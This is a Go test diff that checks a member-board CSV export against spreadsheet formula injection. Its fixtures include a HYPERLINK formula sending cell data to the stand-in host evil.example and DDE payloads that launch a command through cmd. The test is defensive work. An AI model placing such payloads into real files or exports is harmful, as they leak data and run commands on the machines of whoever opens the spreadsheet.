@@ -1,6 +1,7 @@
 package board
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"reflect"
 	"strings"
@@ -94,4 +95,54 @@ func TestExportFilterAndFormats(t *testing.T) {
 	storetest.WantErr(t, err, store.ErrInvalid, `export format "xlsx" is not one of csv, json, vcf`)
 	_, err = s.Export("csv", MemberQuery{Archived: "maybe"})
 	storetest.WantErr(t, err, store.ErrInvalid, "archived")
+}
+
+// TestExportCSVFormulas exports hostile values: no cell of the CSV starts
+// a formula, and the file imports back to the same values.
+func TestExportCSVFormulas(t *testing.T) {
+	src := newTestService(t)
+	hostile := []MemberInput{
+		{Name: `=HYPERLINK("http://evil.example/?d="&A1,"Open")`, Notes: "=1+1\nsecond line"},
+		{Name: "+1 call me", Phone: "+49 30 1234567", Company: "-2", Role: "@SUM(A1:A9)"},
+		{Name: "-2", Source: "=cmd|' /C calc'!A0", Tags: []string{"=evil", "fine"}},
+		{Name: "@SUM(1+1)*cmd|' /C calc'!A0", Persona: "+planner"},
+	}
+	for _, in := range hostile {
+		mustCreate(t, src, in)
+	}
+	f, err := src.Export("csv", MemberQuery{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(f.Content)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(hostile)+1 {
+		t.Fatalf("%d rows", len(rows))
+	}
+	guarded := 0
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q starts a formula", cell)
+			}
+			if strings.HasPrefix(cell, "'") {
+				guarded++
+			}
+		}
+	}
+	if guarded != 11 {
+		t.Errorf("%d cells guarded, want 11:\n%s", guarded, f.Content)
+	}
+	dst := newTestService(t)
+	if _, err := dst.Import(ImportRequest{FileName: f.FileName, Content: []byte(f.Content)}); err != nil {
+		t.Fatalf("re-import: %v", err)
+	}
+	want, got := allMembers(t, src), allMembers(t, dst)
+	for name, w := range want {
+		if g := comparable(got[name]); !reflect.DeepEqual(g, comparable(w)) {
+			t.Errorf("%s:\n got %+v\nwant %+v", name, g, comparable(w))
+		}
+	}
 }
